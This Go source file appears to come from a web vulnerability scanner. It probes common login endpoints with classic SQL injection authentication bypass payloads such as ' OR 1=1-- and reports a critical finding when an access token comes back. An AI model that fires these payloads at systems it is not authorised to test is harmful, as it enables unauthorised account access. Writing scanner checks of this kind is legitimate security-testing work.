package sqli

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"strings"

	"github.com/valkyrie-scanner/valkyrie/pkg/defaults"
	"github.com/valkyrie-scanner/valkyrie/pkg/finding"
	"github.com/valkyrie-scanner/valkyrie/pkg/iohelper"
	"github.com/valkyrie-scanner/valkyrie/pkg/jsonutil"
)

// LoginPaths are the conventional authentication endpoints tried during
// the bypass stage, in order.
func LoginPaths() []string {
	return []string{"/rest/user/login", "/api/auth/login", "/login", "/api/login"}
}

// BypassPayloads are classic authentication bypass strings sent as the
// identifier field.
func BypassPayloads() []string {
	return []string{
		`' OR 1=1--`,
		`admin'--`,
		`' OR '1'='1`,
		`admin' OR '1'='1'--`,
		`') OR ('1'='1`,
	}
}

// TestLoginBypass posts each bypass payload as the email/username to
// the conventional login paths under baseURL. A 200 response whose body
// carries an authentication token key confirms the bypass; the probe
// then stops entirely.
func (t *Tester) TestLoginBypass(ctx context.Context, baseURL string) []finding.Vulnerability {
	baseURL = strings.TrimSuffix(baseURL, "/")

	for _, path := range LoginPaths() {
		for _, payload := range BypassPayloads() {
			if ctx.Err() != nil {
				return nil
			}
			v, ok := t.tryBypass(ctx, baseURL+path, path, payload)
			if ok {
				t.config.NotifyVulnerabilityFound()
				return []finding.Vulnerability{v}
			}
		}
	}
	return nil
}

func (t *Tester) tryBypass(ctx context.Context, loginURL, path, payload string) (finding.Vulnerability, bool) {
	body, err := jsonutil.Marshal(map[string]string{
		"email":    payload,
		"password": "x",
	})
	if err != nil {
		return finding.Vulnerability{}, false
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, loginURL, bytes.NewReader(body))
	if err != nil {
		return finding.Vulnerability{}, false
	}
	req.Header.Set("Content-Type", defaults.ContentTypeJSON)
	if t.config.UserAgent != "" {
		req.Header.Set("User-Agent", t.config.UserAgent)
	}

	resp, err := t.config.Client.Do(req)
	if err != nil {
		t.logger.Debug("login request inconclusive",
			slog.String("path", path), slog.String("error", err.Error()))
		return finding.Vulnerability{}, false
	}
	defer iohelper.DrainAndClose(resp.Body)

	if resp.StatusCode != http.StatusOK {
		return finding.Vulnerability{}, false
	}

	respBody, err := iohelper.ReadBodyDefault(resp.Body)
	if err != nil || !containsTokenKey(string(respBody)) {
		return finding.Vulnerability{}, false
	}

	v := finding.New("sql_injection_auth_bypass", finding.Critical, "SQL Injection Authentication Bypass")
	v.Description = fmt.Sprintf("The login endpoint %s authenticated the SQL payload %q without valid credentials and returned an access token.", path, payload)
	v.ProofOfConcept = finding.ClipEvidence(fmt.Sprintf("POST %s\n{\"email\": %q, \"password\": \"x\"}\nHTTP %d\n%s", loginURL, payload, resp.StatusCode, string(respBody)))
	v.Remediation = "Use parameterized queries in the authentication path and reject SQL metacharacters in identifiers."
	v.CVSSScore = 9.8
	v.Endpoint = path
	v.Method = http.MethodPost
	return v, true
}
